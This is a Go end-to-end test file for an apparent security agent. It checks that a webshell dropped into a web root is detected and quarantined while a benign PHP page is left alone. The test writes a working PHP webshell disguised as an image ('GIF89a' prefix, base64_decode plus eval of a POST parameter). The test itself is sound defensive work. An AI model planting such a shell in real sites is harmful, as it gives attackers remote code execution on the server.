package e2e

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// waitAlertWhere waits up to 15 s for an alert satisfying match.
func (a *agentRun) waitAlertWhere(t *testing.T, what string, match func(Alert) bool) Alert {
	t.Helper()
	deadline := time.Now().Add(15 * time.Second)
	for {
		for _, al := range a.readAlerts(t) {
			if match(al) {
				return al
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("no %s alert within 15s; agent log tail:\n%s", what, tail(a.logText(), 2000))
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// A webshell uploaded into a watched web root is found as it lands — by
// content: it is named like an image — and quarantined; a page that
// merely echoes its input is left alone.
func TestWebshellDroppedInWebRootIsQuarantined(t *testing.T) {
	a := agent(t)
	benign := filepath.Join(a.www, "hello.php")
	if err := os.WriteFile(benign, []byte("<?php\n$name = htmlspecialchars($_GET['name'] ?? 'world');\necho \"Hello, $name\";\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	shell := filepath.Join(a.www, "uploads", "avatar.png")
	if err := os.MkdirAll(filepath.Dir(shell), 0o755); err != nil {
		t.Fatal(err)
	}
	body := "GIF89a<?php $c = base64_decode($_POST['c']); @eval($c); ?>\n"
	if err := os.WriteFile(shell, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	al := a.waitAlertWhere(t, "webshell", func(al Alert) bool {
		return strings.HasPrefix(al.Rule.ID, "VGL-WEBSHELL-") && al.Evidence["path"] == shell
	})
	if !slices.Contains(al.Attack.Techniques, "T1505.003") {
		t.Errorf("webshell alert techniques %v, want T1505.003", al.Attack.Techniques)
	}
	if al.Response.Action != "quarantine" || !strings.HasPrefix(al.Response.Result, "ok") {
		t.Errorf("response %+v, want quarantine ok", al.Response)
	}
	if _, err := os.Stat(shell); !os.IsNotExist(err) {
		t.Errorf("webshell still in the web root after quarantine (%v)", err)
	}
	time.Sleep(3 * time.Second)
	for _, al := range a.readAlerts(t) {
		if al.Evidence["path"] == benign {
			t.Errorf("benign page reported: %s", al.raw)
		}
	}
	if _, err := os.Stat(benign); err != nil {
		t.Errorf("benign page gone: %v", err)
	}
}
